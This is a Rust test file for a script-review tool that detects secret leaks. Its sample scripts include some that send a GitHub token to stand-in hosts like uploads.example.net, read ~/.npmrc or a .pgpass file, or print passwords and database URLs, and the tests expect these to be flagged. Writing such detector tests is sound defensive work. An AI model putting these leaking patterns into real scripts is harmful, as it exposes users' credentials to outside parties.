//! Secrets a script uses the way its project means them to be used: the project's `.env`
//! loaded into the process, a token sent to its API's hosts (named by a helper's callers, or
//! handed out by that API's responses), where a secret URL points printed. Each row has a twin:
//! the nearby shape that leaks is still caught.

use terraphim_script_review::{Language, Verdict};

use crate::{has_rule, verdict};

use Language::{JavaScript as Js, Python as Py, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

const PY_LOAD: &str = "import os, subprocess\n\ndef load_settings(path):\n    values = {}\n    with open(path) as fh:\n        for raw in fh:\n            raw = raw.strip()\n            if raw and not raw.startswith('#') and '=' in raw:\n                key, val = raw.split('=', 1)\n                values[key.strip()] = val.strip().strip('\"')\n    return values\n\nsettings = load_settings('.env')\nfor key, val in settings.items():\n    os.environ.setdefault(key, val)\n";

const JS_LOAD: &str = "const fs = require('node:fs');\nconst path = require('node:path');\nfunction loadEnv(file) {\n  if (!fs.existsSync(file)) return;\n  for (const line of fs.readFileSync(file, 'utf8').split(/\\r?\\n/)) {\n    const m = /^([A-Z0-9_]+)=(.*)$/.exec(line.trim());\n    if (m && process.env[m[1]] === undefined) process.env[m[1]] = m[2];\n  }\n}\nloadEnv(path.join(process.cwd(), '.env.development'));\n";

/// The project's `.env` loaded into the process environment, the way dotenv does, is clean;
/// its values sent to a host off the allow list, written into another file of the project,
/// or printed keep the read flagged; a credential file outside the project is no `.env`.
#[test]
fn the_projects_dotenv_loaded_into_the_process_is_clean() {
    verdict(
        Py,
        &format!("{PY_LOAD}print(f'{{len(settings)}} settings loaded')\n"),
        Clean,
    );
    verdict(
        Js,
        &format!("{JS_LOAD}console.log('seeding', process.env.NODE_ENV ?? 'development');\n"),
        Clean,
    );
    verdict(
        Ts,
        &format!(
            "{JS_LOAD}const port: number = Number(process.env.PORT ?? 8080);\nconsole.log(port);\n"
        ),
        Clean,
    );
    // The values rewritten into the same kind of file (`.env.local` updated in place).
    verdict(
        Js,
        &format!(
            "{JS_LOAD}fs.writeFileSync('.env.development.local', fs.readFileSync('.env.development', 'utf8') + 'FEATURE_X=1\\n');\n"
        ),
        Clean,
    );

    // Twins.
    let sent = verdict(
        Js,
        &format!(
            "{JS_LOAD}const https = require('node:https');\nconst req = https.request({{ hostname: 'cfg-stats.example.org', path: '/v2/keys', method: 'POST' }});\nreq.end('{{\"checked\": true}}');\n"
        ),
        Suspicious,
    );
    has_rule(&sent, "secret-read");
    let copied = verdict(
        Py,
        &format!(
            "{PY_LOAD}with open('docs/settings-snapshot.txt', 'w') as out:\n    out.write(repr(settings))\n"
        ),
        Suspicious,
    );
    has_rule(&copied, "secret-read");
    let printed = verdict(Py, &format!("{PY_LOAD}print(settings)\n"), Dangerous);
    has_rule(&printed, "secret-to-output");
    let npmrc = verdict(
        Js,
        "const fs = require('node:fs');\nconst os = require('node:os');\nconst rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nprocess.env.NPM_CONFIG_USERCONFIG_TEXT = rc;\n",
        Suspicious,
    );
    has_rule(&npmrc, "secret-read");
    // Code the review cannot follow after the load: the read stays.
    let dynamic = verdict(
        Js,
        &format!("{JS_LOAD}const plugin = require(process.argv[2]);\nplugin.run(process.env);\n"),
        Suspicious,
    );
    has_rule(&dynamic, "secret-read");
}

const JS_TWO_HOSTS: &str = "const API = 'https://api.github.com';\nconst UPLOADS = 'https://uploads.github.com';\nasync function call(method, url, body) {\n  const token = process.env.GITHUB_TOKEN;\n  const res = await fetch(url, { method, body, headers: { Authorization: `Bearer ${token}` } });\n  return res.json();\n}\nasync function main(tag, asset) {\n  const rel = await call('GET', `${API}/repos/acme/tool/releases/tags/${tag}`);\n  await call('POST', `${UPLOADS}/repos/acme/tool/releases/${rel.id}/assets?name=${asset}`, 'bytes');\n}\nmain(process.argv[2], process.argv[3]);\n";

/// A helper that sends the token to the URL its callers give, called with URLs of two hosts
/// both documented for that token: each host is judged, and both are the token's own. One
/// caller's host off that list is still a leak.
#[test]
fn a_helpers_urls_of_several_hosts_are_each_judged() {
    verdict(Js, JS_TWO_HOSTS, Clean);
    verdict(
        Py,
        "import os, requests\nAPI = 'https://api.github.com'\nUPLOADS = 'https://uploads.github.com'\ndef call(method, url, data=None):\n    return requests.request(method, url, data=data, headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})\nrel = call('GET', API + '/repos/acme/tool/releases/latest').json()\ncall('POST', UPLOADS + '/repos/acme/tool/releases/' + str(rel['id']) + '/assets?name=a.whl', data=b'x')\n",
        Clean,
    );
    // Twin: one caller's host is not the token's.
    let leak = verdict(
        Js,
        &JS_TWO_HOSTS.replace("https://uploads.github.com", "https://uploads.example.net"),
        Dangerous,
    );
    has_rule(&leak, "secret-to-network");
}

const JS_PAGES: &str = "const API = 'https://api.github.com';\nconst headers = { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` };\nfunction next(link) {\n  const m = /<([^>]+)>;\\s*rel=\"next\"/.exec(link || '');\n  return m ? m[1] : null;\n}\nasync function all(first) {\n  const out = [];\n  let url = first;\n  while (url) {\n    const res = await fetch(url, { headers });\n    out.push(...(await res.json()));\n    url = next(res.headers.get('link'));\n  }\n  return out;\n}\nall(`${API}/repos/acme/tool/pulls?per_page=100`).then((p) => console.log(p.length));\n";

/// A token sent to the URLs its API's responses hand out (the `next` page of a `Link` header)
/// after it was sent to that API's documented host: the pointer came from that API. A token
/// sent to a pointer while the script also sends a secret elsewhere, or never to its own API,
/// stays a finding.
#[test]
fn a_token_sent_to_its_apis_pointers_is_its_use() {
    verdict(Js, JS_PAGES, Clean);
    verdict(
        Ts,
        "const API = \"https://api.github.com\";\nconst auth = { Authorization: `token ${process.env.GITHUB_TOKEN}` };\nasync function upload(tag: string, file: string, data: Uint8Array): Promise<void> {\n  const rel = await (await fetch(`${API}/repos/acme/tool/releases/tags/${tag}`, { headers: auth })).json();\n  const target = String(rel.upload_url).replace(/\\{.*\\}$/, \"\") + `?name=${encodeURIComponent(file)}`;\n  await fetch(target, { method: \"POST\", headers: { ...auth, \"Content-Type\": \"application/octet-stream\" }, body: data });\n}\nupload(process.argv[2], process.argv[3], new Uint8Array());\n",
        Clean,
    );
    // Twins: the pointer came from a host the script names off the list.
    let elsewhere = verdict(
        Ts,
        "const API = \"https://api.github.com\";\nconst auth = { Authorization: `token ${process.env.GITHUB_TOKEN}` };\nasync function upload(tag: string, data: Uint8Array): Promise<void> {\n  await fetch(`${API}/repos/acme/tool/releases/tags/${tag}`, { headers: auth });\n  const rel = await (await fetch(`https://release-index.example.net/tags/${tag}`)).json();\n  const target = String(rel.upload_url) + \"?name=tool.tgz\";\n  await fetch(target, { method: \"POST\", headers: auth, body: data });\n}\nupload(process.argv[2], new Uint8Array());\n",
        Dangerous,
    );
    has_rule(&elsewhere, "secret-to-network");
    // The token never reached its own API: the first URL is the caller's.
    let unknown_first = verdict(
        Js,
        &JS_PAGES.replace(
            "all(`${API}/repos/acme/tool/pulls?per_page=100`)",
            "all(process.argv[2])",
        ),
        Dangerous,
    );
    has_rule(&unknown_first, "secret-to-network");
}

/// Where a secret URL points (its host name, port, scheme) printed is not the secret; its
/// password, its whole text or the value itself printed are.
#[test]
fn where_a_secret_url_points_is_not_the_secret() {
    let js = |part: &str| {
        format!(
            "{JS_LOAD}const u = new URL(fs.readFileSync('.env.development', 'utf8').split('=')[1]);\nconsole.log(`cache at ${{u.{part}}}`);\n"
        )
    };
    verdict(Js, &js("hostname"), Clean);
    verdict(Js, &js("port"), Clean);
    has_rule(&verdict(Js, &js("password"), Dangerous), "secret-to-output");
    has_rule(&verdict(Js, &js("href"), Dangerous), "secret-to-output");
    let py = |part: &str| {
        format!(
            "from urllib.parse import urlparse\nwith open('/home/dev/.pgpass') as fh:\n    dsn = fh.read().strip()\nprint('database host:', urlparse(dsn).{part})\n"
        )
    };
    verdict(Py, &py("hostname"), Suspicious);
    has_rule(&verdict(Py, &py("password"), Dangerous), "secret-to-output");
    has_rule(&verdict(Py, &py("netloc"), Dangerous), "secret-to-output");
}

/// What a connection to a key-value or document store made with the `.env`'s URL returns (a
/// key count, a document) is the server's data, as a SQL connection's rows are; the URL itself
/// printed is still a leak.
#[test]
fn what_a_store_connection_returns_is_not_its_url() {
    let js = |shown: &str| {
        format!(
            "{JS_LOAD}const Redis = require('ioredis');\nconst url = fs.readFileSync('.env.development', 'utf8').split('=')[1];\nconst client = new Redis(url);\nclient.dbsize().then((n) => console.log({shown}));\n"
        )
    };
    verdict(Js, &js("`${n} keys`"), Clean);
    has_rule(&verdict(Js, &js("url"), Dangerous), "secret-to-output");
    let py = |shown: &str| {
        format!(
            "{PY_LOAD}import pymongo\nclient = pymongo.MongoClient(settings['MONGO_URI'])\nprint({shown})\n"
        )
    };
    verdict(Py, &py("client.shop.orders.count_documents({})"), Clean);
    has_rule(
        &verdict(Py, &py("settings['MONGO_URI']"), Dangerous),
        "secret-to-output",
    );
}
